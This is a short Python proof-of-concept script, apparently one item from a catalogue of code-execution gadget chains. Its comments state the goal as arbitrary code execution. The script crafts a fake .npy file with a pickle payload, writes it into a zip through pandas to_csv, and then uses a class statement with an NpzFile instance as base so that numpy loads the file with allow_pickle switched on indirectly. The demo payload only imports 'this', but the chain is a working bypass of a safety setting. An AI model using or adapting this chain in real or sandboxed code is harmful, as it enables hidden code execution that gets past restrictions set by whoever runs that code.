# source: Python data model (class statement calls type(base)(name, bases, ns) when a base is an instance); numpy/lib/npyio.py NpzFile.__init__(fid, own_fid, allow_pickle) and NpzFile.__getitem__ -> format.read_array -> pickle.load
# family: instance used as a class base -> its library class constructor called with (class name, bases tuple, namespace dict) = NpzFile(path='G', allow_pickle=<truthy ns>), pickle from a zip the script wrote with to_csv
# goal: unpickles attacker bytes: imports module 'this' (prints the Zen of Python) -- arbitrary code execution
import numpy as np
import pandas as pd
hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
hdr = hdr + " " * (117 - len(hdr))
first = chr(147) + "NUMPY" + chr(1) + chr(0) + chr(118) + chr(0) + hdr
rows = [first, "cthis", "s", "."]
df = pd.DataFrame({"a": rows})
df.to_csv("G", compression={"method": "zip", "archive_name": "x.npy"}, index=False, header=False, encoding="latin-1", sep="\t", quotechar="~", lineterminator="\n")
np.savez("a.npz", x=np.zeros(2))
z = np.load("a.npz")
class G(z):
    y = 1
print(G["x"][:40])
